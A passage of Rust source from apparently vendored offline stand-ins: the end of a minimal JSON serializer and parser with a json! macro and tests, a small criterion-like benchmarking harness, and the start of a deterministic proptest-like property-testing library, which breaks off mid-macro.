            for (i, (k, item)) in m.iter().enumerate() {
                if i > 0 {
                    out.push_str(",\n");
                }
                indent(out, depth + 1);
                write_escaped(k, out);
                out.push_str(": ");
                write_pretty(item, out, depth + 1);
            }
            out.push('\n');
            indent(out, depth);
            out.push('}');
        }
        other => write_compact(other, out),
    }
}

// ---------------------------------------------------------------------------
// Deserialization.

/// Parse JSON text into any `Deserialize`.
pub fn from_str<T: serde::Deserialize>(s: &str) -> Result<T> {
    let value = parse_value(s)?;
    T::from_value(&value)
}

/// Parse JSON bytes (must be UTF-8).
pub fn from_slice<T: serde::Deserialize>(bytes: &[u8]) -> Result<T> {
    let s = std::str::from_utf8(bytes).map_err(|e| Error::msg(format!("invalid UTF-8: {e}")))?;
    from_str(s)
}

/// Parse JSON from an `io::Read`.
pub fn from_reader<R: io::Read, T: serde::Deserialize>(mut reader: R) -> Result<T> {
    let mut buf = Vec::new();
    reader.read_to_end(&mut buf).map_err(|e| Error::msg(format!("read error: {e}")))?;
    from_slice(&buf)
}

fn parse_value(s: &str) -> Result<Value> {
    let mut p = Parser { bytes: s.as_bytes(), pos: 0 };
    p.skip_ws();
    let v = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(Error::msg(format!("trailing characters at byte {}", p.pos)));
    }
    Ok(v)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while let Some(&b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<()> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error::msg(format!(
                "expected {:?} at byte {}, found {:?}",
                b as char,
                self.pos,
                self.peek().map(|c| c as char)
            )))
        }
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if self.bytes[self.pos..].starts_with(kw.as_bytes()) {
            self.pos += kw.len();
            true
        } else {
            false
        }
    }

    fn value(&mut self) -> Result<Value> {
        match self.peek() {
            Some(b'n') if self.eat_keyword("null") => Ok(Value::Null),
            Some(b't') if self.eat_keyword("true") => Ok(Value::Bool(true)),
            Some(b'f') if self.eat_keyword("false") => Ok(Value::Bool(false)),
            Some(b'"') => self.string().map(Value::String),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            other => Err(Error::msg(format!(
                "unexpected {:?} at byte {}",
                other.map(|c| c as char),
                self.pos
            ))),
        }
    }

    fn array(&mut self) -> Result<Value> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(Error::msg(format!("expected ',' or ']' at byte {}", self.pos))),
            }
        }
    }

    fn object(&mut self) -> Result<Value> {
        self.expect(b'{')?;
        let mut m = Map::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(m));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let val = self.value()?;
            m.insert(key, val);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(m));
                }
                _ => return Err(Error::msg(format!("expected ',' or '}}' at byte {}", self.pos))),
            }
        }
    }

    fn string(&mut self) -> Result<String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Bulk-copy the unescaped run.
            while let Some(&b) = self.bytes.get(self.pos) {
                if b == b'"' || b == b'\\' {
                    break;
                }
                self.pos += 1;
            }
            if self.pos > start {
                let chunk = std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|e| Error::msg(format!("invalid UTF-8 in string: {e}")))?;
                out.push_str(chunk);
            }
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let esc =
                        self.peek().ok_or_else(|| Error::msg("unterminated escape".to_string()))?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'b' => out.push('\u{08}'),
                        b'f' => out.push('\u{0C}'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let hi = self.hex4()?;
                            let cp = if (0xD800..0xDC00).contains(&hi) {
                                // Surrogate pair.
                                if !self.eat_keyword("\\u") {
                                    return Err(Error::msg("lone high surrogate".to_string()));
                                }
                                let lo = self.hex4()?;
                                if !(0xDC00..0xE000).contains(&lo) {
                                    return Err(Error::msg("invalid low surrogate".to_string()));
                                }
                                0x10000 + ((hi - 0xD800) << 10) + (lo - 0xDC00)
                            } else {
                                hi
                            };
                            out.push(
                                char::from_u32(cp)
                                    .ok_or_else(|| Error::msg("invalid codepoint".to_string()))?,
                            );
                        }
                        other => {
                            return Err(Error::msg(format!("bad escape \\{}", other as char)));
                        }
                    }
                }
                _ => return Err(Error::msg("unterminated string".to_string())),
            }
        }
    }

    fn hex4(&mut self) -> Result<u32> {
        let end = self.pos + 4;
        if end > self.bytes.len() {
            return Err(Error::msg("truncated \\u escape".to_string()));
        }
        let hex = std::str::from_utf8(&self.bytes[self.pos..end])
            .map_err(|_| Error::msg("non-ASCII in \\u escape".to_string()))?;
        let v = u32::from_str_radix(hex, 16)
            .map_err(|_| Error::msg(format!("bad \\u escape {hex:?}")))?;
        self.pos = end;
        Ok(v)
    }

    fn number(&mut self) -> Result<Value> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.pos += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).unwrap();
        Number::parse(text)
            .map(Value::Number)
            .ok_or_else(|| Error::msg(format!("invalid number {text:?}")))
    }
}

// ---------------------------------------------------------------------------
// json! macro.

/// Build a [`Value`] from a JSON-like literal. Keys must be string literals;
/// values may be nested `{...}` / `[...]` literals or arbitrary `Serialize`
/// expressions.
#[macro_export]
macro_rules! json {
    // --- internal: object entries ---
    (@obj $m:ident $(,)?) => {};
    (@obj $m:ident, $key:literal : { $($inner:tt)* } $(, $($rest:tt)*)?) => {
        $m.insert($key.to_string(), $crate::json!({ $($inner)* }));
        $crate::json!(@obj $m $(, $($rest)*)?);
    };
    (@obj $m:ident, $key:literal : [ $($inner:tt)* ] $(, $($rest:tt)*)?) => {
        $m.insert($key.to_string(), $crate::json!([ $($inner)* ]));
        $crate::json!(@obj $m $(, $($rest)*)?);
    };
    (@obj $m:ident, $key:literal : null $(, $($rest:tt)*)?) => {
        $m.insert($key.to_string(), $crate::Value::Null);
        $crate::json!(@obj $m $(, $($rest)*)?);
    };
    (@obj $m:ident, $key:literal : $value:expr, $($rest:tt)*) => {
        $m.insert($key.to_string(), $crate::to_value(&$value));
        $crate::json!(@obj $m, $($rest)*);
    };
    (@obj $m:ident, $key:literal : $value:expr) => {
        $m.insert($key.to_string(), $crate::to_value(&$value));
    };
    // --- internal: array elements ---
    (@arr $v:ident $(,)?) => {};
    (@arr $v:ident, { $($inner:tt)* } $(, $($rest:tt)*)?) => {
        $v.push($crate::json!({ $($inner)* }));
        $crate::json!(@arr $v $(, $($rest)*)?);
    };
    (@arr $v:ident, [ $($inner:tt)* ] $(, $($rest:tt)*)?) => {
        $v.push($crate::json!([ $($inner)* ]));
        $crate::json!(@arr $v $(, $($rest)*)?);
    };
    (@arr $v:ident, null $(, $($rest:tt)*)?) => {
        $v.push($crate::Value::Null);
        $crate::json!(@arr $v $(, $($rest)*)?);
    };
    (@arr $v:ident, $elem:expr, $($rest:tt)*) => {
        $v.push($crate::to_value(&$elem));
        $crate::json!(@arr $v, $($rest)*);
    };
    (@arr $v:ident, $elem:expr) => {
        $v.push($crate::to_value(&$elem));
    };
    // --- entry points ---
    (null) => { $crate::Value::Null };
    ({ $($tt:tt)* }) => {{
        #[allow(unused_mut)]
        let mut __m = $crate::Map::new();
        $crate::json!(@obj __m, $($tt)*);
        $crate::Value::Object(__m)
    }};
    ([ $($tt:tt)* ]) => {{
        #[allow(unused_mut)]
        let mut __v: ::std::vec::Vec<$crate::Value> = ::std::vec::Vec::new();
        $crate::json!(@arr __v, $($tt)*);
        $crate::Value::Array(__v)
    }};
    ($other:expr) => { $crate::to_value(&$other) };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_scalars() {
        for text in ["null", "true", "false", "0", "-7", "3.5", "\"hi\"", "18446744073709551615"] {
            let v: Value = from_str(text).unwrap();
            assert_eq!(to_string(&v).unwrap(), text, "roundtrip {text}");
        }
    }

    #[test]
    fn u64_ids_survive_exactly() {
        let id = 0xDEAD_BEEF_CAFE_F00Du64;
        let text = to_string(&id).unwrap();
        let back: u64 = from_str(&text).unwrap();
        assert_eq!(back, id);
    }

    #[test]
    fn nested_structures_roundtrip() {
        let text = r#"{"a":[1,2,{"b":null}],"c":"x\nyA","d":{"e":false}}"#;
        let v: Value = from_str(text).unwrap();
        let compact = to_string(&v).unwrap();
        let v2: Value = from_str(&compact).unwrap();
        assert_eq!(v, v2);
        assert_eq!(v["a"][2]["b"], Value::Null);
        assert_eq!(v["c"].as_str(), Some("x\nyA"));
    }

    #[test]
    fn string_escapes() {
        let v: Value = from_str(r#""tab\there \"q\" \\ é 😀""#).unwrap();
        assert_eq!(v.as_str(), Some("tab\there \"q\" \\ é 😀"));
        let printed = to_string(&v).unwrap();
        let back: Value = from_str(&printed).unwrap();
        assert_eq!(back, v);
    }

    #[test]
    fn json_macro_shapes() {
        let n = 3usize;
        let v = json!({
            "plain": n,
            "nested": { "a": 1, "b": [1, 2, 3] },
            "expr": (1 + 2),
            "arr": [ { "x": true }, null ],
            "null_value": null,
        });
        assert_eq!(v["plain"].as_u64(), Some(3));
        assert_eq!(v["nested"]["b"][2].as_u64(), Some(3));
        assert_eq!(v["expr"].as_u64(), Some(3));
        assert!(v["arr"][0]["x"].as_bool().unwrap());
        assert!(v["arr"][1].is_null());
        assert!(v["null_value"].is_null());
    }

    #[test]
    fn pretty_output_parses_back() {
        let v = json!({ "k": [1, 2], "m": { "x": "y" } });
        let pretty = to_string_pretty(&v).unwrap();
        assert!(pretty.contains('\n'));
        let back: Value = from_str(&pretty).unwrap();
        assert_eq!(back, v);
    }

    #[test]
    fn errors_are_reported() {
        assert!(from_str::<Value>("{").is_err());
        assert!(from_str::<Value>("[1,]").is_err());
        assert!(from_str::<Value>("\"unterminated").is_err());
        assert!(from_str::<Value>("12 34").is_err());
    }
}
