//! Offline stand-in for `criterion`.
//!
//! A minimal wall-clock benchmarking harness exposing the subset of the
//! criterion API this workspace's benches use: `Criterion`,
//! `benchmark_group` with `throughput`/`sample_size`/`bench_function`/
//! `finish`, `Bencher::iter` / `iter_batched`, `Throughput`, `BatchSize`,
//! and the `criterion_group!` / `criterion_main!` macros.
//!
//! Compared to real criterion there is no statistical analysis, outlier
//! rejection, or HTML report — each benchmark is warmed up briefly and then
//! timed for a small fixed budget, printing mean ns/iter (plus derived
//! throughput when configured). Passing `--test` (as `cargo test` does for
//! bench targets) runs every routine exactly once so test runs stay fast.

// Vendored stand-in: keep the first-party clippy gate quiet here.
#![allow(clippy::all)]

pub use std::hint::black_box;
use std::time::{Duration, Instant};

/// How batched inputs are grouped. Ignored by this harness; batches are
/// always generated per iteration.
#[derive(Debug, Clone, Copy)]
pub enum BatchSize {
    SmallInput,
    LargeInput,
    PerIteration,
}

/// Work-per-iteration declaration used to derive throughput numbers.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Bytes(u64),
    Elements(u64),
}

/// Top-level harness state.
pub struct Criterion {
    filter: Option<String>,
    test_mode: bool,
    measure_budget: Duration,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { filter: None, test_mode: false, measure_budget: Duration::from_millis(40) }
    }
}

impl Criterion {
    /// Read the CLI: `--test` (run each routine once, as `cargo test` does
    /// for harness-less bench targets) and an optional name filter.
    pub fn from_args() -> Self {
        let mut c = Criterion::default();
        for arg in std::env::args().skip(1) {
            match arg.as_str() {
                "--test" => c.test_mode = true,
                "--bench" => {}
                a if a.starts_with("--") => {} // ignore unknown cargo/criterion flags
                a => c.filter = Some(a.to_owned()),
            }
        }
        c
    }

    pub fn configure_from_args(self) -> Self {
        let args = Criterion::from_args();
        Criterion { measure_budget: self.measure_budget, ..args }
    }

    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup { criterion: self, name: name.into(), throughput: None }
    }

    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, f: F) -> &mut Self {
        run_bench(self, id, None, f);
        self
    }
}

/// A named set of related benchmarks sharing a throughput setting.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Accepted for API compatibility; this harness sizes runs by time.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, f: F) -> &mut Self {
        let full = format!("{}/{}", self.name, id);
        run_bench(self.criterion, &full, self.throughput, f);
        self
    }

    pub fn finish(self) {}
}

fn run_bench<F: FnMut(&mut Bencher)>(
    c: &mut Criterion,
    id: &str,
    throughput: Option<Throughput>,
    mut f: F,
) {
    if let Some(filter) = &c.filter {
        if !id.contains(filter.as_str()) {
            return;
        }
    }
    let mut b = Bencher {
        test_mode: c.test_mode,
        budget: c.measure_budget,
        total: Duration::ZERO,
        iters: 0,
    };
    f(&mut b);
    if b.iters == 0 {
        println!("bench {id:<50} (no measurement)");
        return;
    }
    let mean_ns = b.total.as_nanos() as f64 / b.iters as f64;
    let extra = match throughput {
        Some(Throughput::Bytes(n)) => {
            let mbps = n as f64 / mean_ns * 1e9 / (1024.0 * 1024.0);
            format!("  {mbps:10.1} MiB/s")
        }
        Some(Throughput::Elements(n)) => {
            let eps = n as f64 / mean_ns * 1e9;
            format!("  {eps:10.0} elem/s")
        }
        None => String::new(),
    };
    println!("bench {id:<50} {mean_ns:14.1} ns/iter ({} iters){extra}", b.iters);
}

/// Passed to each benchmark closure; runs and times the routine.
pub struct Bencher {
    test_mode: bool,
    budget: Duration,
    total: Duration,
    iters: u64,
}

impl Bencher {
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        if self.test_mode {
            let start = Instant::now();
            black_box(routine());
            self.total = start.elapsed();
            self.iters = 1;
            return;
        }
        // Warmup.
        for _ in 0..2 {
            black_box(routine());
        }
        let deadline = Instant::now() + self.budget;
        let mut total = Duration::ZERO;
        let mut iters = 0u64;
        while Instant::now() < deadline && iters < 100_000 {
            let start = Instant::now();
            black_box(routine());
            total += start.elapsed();
            iters += 1;
        }
        self.total = total;
        self.iters = iters.max(1);
    }

    pub fn iter_batched<I, O, S: FnMut() -> I, R: FnMut(I) -> O>(
        &mut self,
        mut setup: S,
        mut routine: R,
        _size: BatchSize,
    ) {
        if self.test_mode {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            self.total = start.elapsed();
            self.iters = 1;
            return;
        }
        black_box(routine(setup()));
        let deadline = Instant::now() + self.budget;
        let mut total = Duration::ZERO;
        let mut iters = 0u64;
        while Instant::now() < deadline && iters < 100_000 {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            total += start.elapsed();
            iters += 1;
        }
        self.total = total;
        self.iters = iters.max(1);
    }
}

/// Bundle bench functions into a runnable group.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::from_args();
            $( $target(&mut criterion); )+
        }
    };
}

/// Entry point running every group.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_measures_and_counts() {
        let mut c = Criterion { measure_budget: Duration::from_millis(5), ..Criterion::default() };
        let mut ran = 0u64;
        c.bench_function("noop", |b| {
            b.iter(|| {
                ran += 1;
                black_box(ran)
            })
        });
        assert!(ran > 0);
    }

    #[test]
    fn group_api_compiles_and_runs() {
        let mut c = Criterion { measure_budget: Duration::from_millis(5), ..Criterion::default() };
        let mut g = c.benchmark_group("g");
        g.throughput(Throughput::Bytes(1024));
        g.sample_size(10);
        g.bench_function("batched", |b| {
            b.iter_batched(|| vec![1u8; 16], |v| v.len(), BatchSize::SmallInput)
        });
        g.finish();
    }

    #[test]
    fn test_mode_runs_once() {
        let mut c = Criterion { test_mode: true, ..Criterion::default() };
        let mut count = 0u64;
        c.bench_function("once", |b| {
            b.iter(|| {
                count += 1;
            })
        });
        assert_eq!(count, 1);
    }
}
