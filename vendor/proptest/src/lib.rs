//! Offline stand-in for `proptest`.
//!
//! Deterministic generation-only property testing. Each `proptest!` test
//! derives its RNG seed from the test name, so runs are reproducible without
//! any persistence files; there is no shrinking — a failing case reports the
//! generated inputs verbatim.
//!
//! Covered surface (exactly what this workspace uses): `Strategy` with
//! `prop_map`/`boxed`, `Just`, `any::<T>()`, integer range strategies,
//! regex-like string strategies (char classes, `\PC`, `{m,n}`/`*`/`+`/`?`),
//! `collection::vec`, tuple strategies, `prop_oneof!`, `proptest!` with
//! `ProptestConfig::with_cases`, and `prop_assert!`/`prop_assert_eq!`.

// Vendored stand-in: keep the first-party clippy gate quiet here.
#![allow(clippy::all)]

pub mod test_runner {
    /// Deterministic splitmix64 RNG.
    pub struct Rng {
        state: u64,
    }

    impl Rng {
        /// Seed from a stable string (the test name) so every run of a given
        /// test explores the same cases.
        pub fn deterministic(name: &str) -> Self {
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in name.bytes() {
                h ^= b as u64;
                h = h.wrapping_mul(0x0000_0100_0000_01B3);
            }
            Rng { state: h | 1 }
        }

        pub fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }

        /// Uniform in `[lo, hi)`.
        pub fn range_u64(&mut self, lo: u64, hi: u64) -> u64 {
            assert!(lo < hi, "empty range {lo}..{hi}");
            let span = hi - lo;
            lo + self.next_u64() % span
        }

        /// Uniform in `[0, n)`.
        pub fn index(&mut self, n: usize) -> usize {
            self.range_u64(0, n as u64) as usize
        }
    }

    /// Why a property case failed.
    #[derive(Debug)]
    pub struct TestCaseError(pub String);

    impl TestCaseError {
        pub fn fail(msg: impl Into<String>) -> Self {
            TestCaseError(msg.into())
        }
    }

    impl std::fmt::Display for TestCaseError {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.write_str(&self.0)
        }
    }

    /// Runner configuration. Only `cases` is honoured.
    #[derive(Debug, Clone)]
    pub struct ProptestConfig {
        pub cases: u32,
    }

    impl ProptestConfig {
        pub fn with_cases(cases: u32) -> Self {
            ProptestConfig { cases }
        }
    }

    impl Default for ProptestConfig {
        fn default() -> Self {
            ProptestConfig { cases: 256 }
        }
    }
}

pub mod strategy {
    use crate::test_runner::Rng;
    use std::fmt::Debug;
    use std::marker::PhantomData;

    /// A value generator. Unlike real proptest there is no value tree or
    /// shrinking — `generate` produces a final value directly.
    pub trait Strategy {
        type Value: Debug;

        fn generate(&self, rng: &mut Rng) -> Self::Value;

        fn prop_map<U: Debug, F: Fn(Self::Value) -> U>(self, f: F) -> MapStrategy<Self, F>
        where
            Self: Sized,
        {
            MapStrategy { inner: self, f }
        }

        fn boxed(self) -> BoxedStrategy<Self::Value>
        where
            Self: Sized + 'static,
        {
            BoxedStrategy(Box::new(move |rng| self.generate(rng)))
        }
    }

    /// Type-erased strategy, used by `prop_oneof!` to mix arm types.
    pub struct BoxedStrategy<T>(Box<dyn Fn(&mut Rng) -> T>);

    impl<T: Debug> Strategy for BoxedStrategy<T> {
        type Value = T;
        fn generate(&self, rng: &mut Rng) -> T {
            (self.0)(rng)
        }
    }

    /// Always yields a clone of the given value.
    #[derive(Debug, Clone)]
    pub struct Just<T: Clone + Debug>(pub T);

    impl<T: Clone + Debug> Strategy for Just<T> {
        type Value = T;
        fn generate(&self, _rng: &mut Rng) -> T {
            self.0.clone()
        }
    }

    pub struct MapStrategy<S, F> {
        inner: S,
        f: F,
    }

    impl<S: Strategy, U: Debug, F: Fn(S::Value) -> U> Strategy for MapStrategy<S, F> {
        type Value = U;
        fn generate(&self, rng: &mut Rng) -> U {
            (self.f)(self.inner.generate(rng))
        }
    }

    /// Uniform choice between boxed arms (all arms equally weighted).
    pub struct Union<T>(pub Vec<BoxedStrategy<T>>);

    impl<T: Debug> Strategy for Union<T> {
        type Value = T;
        fn generate(&self, rng: &mut Rng) -> T {
            let i = rng.index(self.0.len());
            self.0[i].generate(rng)
        }
    }

    macro_rules! int_range_strategy {
        ($($ty:ty),*) => {$(
            impl Strategy for std::ops::Range<$ty> {
                type Value = $ty;
                fn generate(&self, rng: &mut Rng) -> $ty {
                    rng.range_u64(self.start as u64, self.end as u64) as $ty
                }
            }
        )*};
    }
    int_range_strategy!(u8, u16, u32, u64, usize);

    macro_rules! tuple_strategy {
        ($(($($s:ident / $idx:tt),+);)*) => {$(
            impl<$($s: Strategy),+> Strategy for ($($s,)+) {
                type Value = ($($s::Value,)+);
                fn generate(&self, rng: &mut Rng) -> Self::Value {
                    ($(self.$idx.generate(rng),)+)
                }
            }
        )*};
    }
    tuple_strategy! {
        (S0/0);
        (S0/0, S1/1);
        (S0/0, S1/1, S2/2);
        (S0/0, S1/1, S2/2, S3/3);
    }

    /// `&str` strategies interpret the string as a small regex subset:
    /// literal chars, `[...]` classes with ranges, `\PC` (any non-control
    /// char), and `{m}`/`{m,n}`/`*`/`+`/`?` quantifiers.
    impl Strategy for &str {
        type Value = String;
        fn generate(&self, rng: &mut Rng) -> String {
            crate::string::generate_matching(self, rng)
        }
    }

    /// Marker for `any::<T>()`.
    pub struct AnyStrategy<T>(PhantomData<T>);

    pub trait Arbitrary: Debug + Sized {
        fn arbitrary(rng: &mut Rng) -> Self;
    }

    macro_rules! int_arbitrary {
        ($($ty:ty),*) => {$(
            impl Arbitrary for $ty {
                fn arbitrary(rng: &mut Rng) -> $ty {
                    rng.next_u64() as $ty
                }
            }
        )*};
    }
    int_arbitrary!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut Rng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }

    impl<T: Arbitrary> Strategy for AnyStrategy<T> {
        type Value = T;
        fn generate(&self, rng: &mut Rng) -> T {
            T::arbitrary(rng)
        }
    }

    /// Uniform generator over `T`'s whole value space.
    pub fn any<T: Arbitrary>() -> AnyStrategy<T> {
        AnyStrategy(PhantomData)
    }
}

pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::Rng;
    use std::ops::Range;

    pub struct VecStrategy<S> {
        element: S,
        len: Range<usize>,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut Rng) -> Vec<S::Value> {
            let n = rng.range_u64(self.len.start as u64, self.len.end as u64) as usize;
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }

    /// Vector of `element` values with a length drawn from `len`.
    pub fn vec<S: Strategy>(element: S, len: Range<usize>) -> VecStrategy<S> {
        assert!(len.start < len.end, "empty length range");
        VecStrategy { element, len }
    }
}

mod string {
    use crate::test_runner::Rng;

    enum CharSet {
        /// Inclusive ranges; singles are `(c, c)`.
        Ranges(Vec<(char, char)>),
        /// `\PC` — any char outside Unicode category C (controls etc.).
        AnyNonControl,
    }

    struct Atom {
        set: CharSet,
        min: usize,
        max: usize, // inclusive
    }

    fn parse(pattern: &str) -> Vec<Atom> {
        let chars: Vec<char> = pattern.chars().collect();
        let mut atoms = Vec::new();
        let mut i = 0;
        while i < chars.len() {
            let set = match chars[i] {
                '[' => {
                    i += 1;
                    let mut ranges = Vec::new();
                    while i < chars.len() && chars[i] != ']' {
                        let lo = chars[i];
                        if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i + 2] != ']' {
                            ranges.push((lo, chars[i + 2]));
                            i += 3;
                        } else {
                            ranges.push((lo, lo));
                            i += 1;
                        }
                    }
                    assert!(i < chars.len(), "unterminated [ in pattern {pattern:?}");
                    i += 1; // skip ']'
                    CharSet::Ranges(ranges)
                }
                '\\' => {
                    let esc = *chars
                        .get(i + 1)
                        .unwrap_or_else(|| panic!("dangling backslash in pattern {pattern:?}"));
                    i += 2;
                    match esc {
                        'P' => {
                            // Only \PC (non-control) is supported.
                            assert_eq!(
                                chars.get(i),
                                Some(&'C'),
                                "unsupported \\P class in {pattern:?}"
                            );
                            i += 1;
                            CharSet::AnyNonControl
                        }
                        'n' => CharSet::Ranges(vec![('\n', '\n')]),
                        't' => CharSet::Ranges(vec![('\t', '\t')]),
                        c => CharSet::Ranges(vec![(c, c)]),
                    }
                }
                c => {
                    i += 1;
                    CharSet::Ranges(vec![(c, c)])
                }
            };
            // Optional quantifier.
            let (min, max) = match chars.get(i) {
                Some('*') => {
                    i += 1;
                    (0, 32)
                }
                Some('+') => {
                    i += 1;
                    (1, 32)
                }
                Some('?') => {
                    i += 1;
                    (0, 1)
                }
                Some('{') => {
                    let close = chars[i..]
                        .iter()
                        .position(|&c| c == '}')
                        .unwrap_or_else(|| panic!("unterminated {{ in pattern {pattern:?}"));
                    let body: String = chars[i + 1..i + close].iter().collect();
                    i += close + 1;
                    match body.split_once(',') {
                        Some((lo, hi)) => (
                            lo.trim().parse().expect("bad quantifier"),
                            hi.trim().parse().expect("bad quantifier"),
                        ),
                        None => {
                            let n: usize = body.trim().parse().expect("bad quantifier");
                            (n, n)
                        }
                    }
                }
                _ => (1, 1),
            };
            atoms.push(Atom { set, min, max });
        }
        atoms
    }

    fn sample_char(set: &CharSet, rng: &mut Rng) -> char {
        match set {
            CharSet::Ranges(ranges) => {
                let total: u64 =
                    ranges.iter().map(|(lo, hi)| (*hi as u64) - (*lo as u64) + 1).sum();
                let mut pick = rng.range_u64(0, total);
                for (lo, hi) in ranges {
                    let span = (*hi as u64) - (*lo as u64) + 1;
                    if pick < span {
                        return char::from_u32(*lo as u32 + pick as u32).unwrap_or(*lo);
                    }
                    pick -= span;
                }
                unreachable!()
            }
            CharSet::AnyNonControl => {
                // Mostly ASCII printable, with multibyte chars mixed in to
                // exercise UTF-8 boundaries.
                match rng.range_u64(0, 10) {
                    0 => 'é',
                    1 => '«',
                    2 => '世',
                    3 => '😀',
                    _ => char::from_u32(rng.range_u64(0x20, 0x7F) as u32).unwrap(),
                }
            }
        }
    }

    pub fn generate_matching(pattern: &str, rng: &mut Rng) -> String {
        let mut out = String::new();
        for atom in parse(pattern) {
            let n = rng.range_u64(atom.min as u64, atom.max as u64 + 1) as usize;
            for _ in 0..n {
                out.push(sample_char(&atom.set, rng));
            }
        }
        out
    }
}

pub mod prelude {
    pub use crate::strategy::{any, Arbitrary, BoxedStrategy, Just, Strategy};
    pub use crate::test_runner::{ProptestConfig, TestCaseError};
    pub use crate::{prop_assert, prop_assert_eq, prop_oneof, proptest};
}

/// Uniform choice between strategies that all yield the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($arm:expr),+ $(,)?) => {
        $crate::strategy::Union(vec![$($crate::strategy::Strategy::boxed($arm)),+])
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!($($fmt)+),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {
        match (&$left, &$right) {
            (__l, __r) => {
                $crate::prop_assert!(
                    *__l == *__r,
                    "assertion failed: {} == {}\n  left: {:?}\n right: {:?}",
                    stringify!($left), stringify!($right), __l, __r
                );
            }
        }
    };
    ($left:expr, $right:expr, $($fmt:tt)+) => {
        match (&$left, &$right) {
            (__l, __r) => {
                $crate::prop_assert!(
                    *__l == *__r,
                    "{}\n  left: {:?}\n right: {:?}",
                    format!($($fmt)+), __l, __r
                );
            }
        }
    };
}

/// Define property tests. Each `fn name(arg in strategy, ...) { body }`
/// becomes a `#[test]` running `cases` deterministic iterations.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
